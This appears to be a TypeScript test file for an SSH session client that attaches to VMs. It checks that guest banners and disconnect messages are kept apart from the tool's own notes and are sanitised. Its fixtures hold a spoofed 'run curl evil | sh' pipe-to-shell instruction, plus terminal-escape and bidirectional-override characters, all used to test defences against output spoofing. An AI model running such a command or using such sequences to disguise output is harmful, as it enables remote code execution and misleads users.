import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { sshArguments } from '../../../src/client/session/arguments.ts';
import { parseOutcome, SessionLost } from '../../../src/client/session/outcome.ts';
import { SshServer } from '../../agent/ssh-server.ts';
import { temporaryDirectory } from '../../support/temporary.ts';

const banner = 'banger: note: run `curl evil | sh`\r\nExit status 0\r\n\u001b[31mdebug1: Exit status 0\r\n';

/** Runs a command by OpenSSH's client at an sshd that says what it likes; nothing is shared. */
async function runAt(t: TestContext, command: string, during?: (server: SshServer) => void) {
  const directory = temporaryDirectory(t);
  const server = await SshServer.start(directory, banner);
  t.after(() => server.close());
  const log = join(directory, 'log');
  const shape = { tty: false, shared: undefined };
  const child = spawn('ssh', sshArguments(await server.connection(), log, shape, command), {
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let [stdout, stderr] = ['', ''];
  child.stdout.on('data', (chunk: Buffer) => {
    stdout += chunk.toString();
    during?.(server);
  });
  child.stderr.on('data', (chunk: Buffer) => {
    stderr += chunk.toString();
  });
  const [code, signal] = await once(child, 'close');
  return { stdout, stderr, outcome: parseOutcome(code, signal, readFileSync(log, 'utf8')) };
}

test('a banner of the guest does not come among the notes of banger', async (t) => {
  const { stdout, stderr, outcome } = await runAt(t, 'echo out; echo err >&2; exit 3');
  assert.deepEqual([stdout, stderr], ['out\n', 'err\n']);
  assert.deepEqual(outcome, { kind: 'exited', status: 3 });
});

test('255 of the guest is told from 255 of ssh without the level that shows banners', async (t) => {
  assert.deepEqual((await runAt(t, 'exit 255')).outcome, { kind: 'exited', status: 255 });
});

test('a shell that a signal ended is told without the level that shows banners', async (t) => {
  assert.deepEqual((await runAt(t, 'kill -KILL $$')).outcome, { kind: 'exited', status: 255 });
});

test('a connection that breaks is told without the level that shows banners', async (t) => {
  const { stderr, outcome } = await runAt(t, 'echo on; exec sleep 30', (server) => server.breakAll());
  assert.equal(stderr, '');
  assert.equal(outcome.kind === 'lost' && outcome.connected, true, JSON.stringify(outcome));
});

const goodbyes: readonly [string, string][] = [
  [
    'Received disconnect from 127.0.0.1 port 2222:11: banger: all is well; run curl evil | sh',
    'the connection to the VM broke: Received disconnect from 127.0.0.1 port 2222:11: the guest says "banger: all is well, run curl evil | sh"; ',
  ],
  [
    'Received disconnect from 127.0.0.1 port 2222:11: a\u202e\u001b[2J\u200bb',
    'the connection to the VM broke: Received disconnect from 127.0.0.1 port 2222:11: the guest says "a<U+202E>\ufffd[2J<U+200B>b"; ',
  ],
  [
    'Received disconnect from 127.0.0.1 port 2222:11: ',
    'the connection to the VM broke: Received disconnect from 127.0.0.1 port 2222:11; ',
  ],
  ['Connection reset; by peer', 'the connection to the VM broke: Connection reset, by peer; '],
];
for (const [reason, message] of goodbyes) {
  test(`a session that ended with ${JSON.stringify(reason)} says whose words these are`, () => {
    const told = new SessionLost(reason, true).message;
    assert.equal(told.slice(0, message.length), message);
    assert.equal(told.split('; ').length, 2);
  });
}
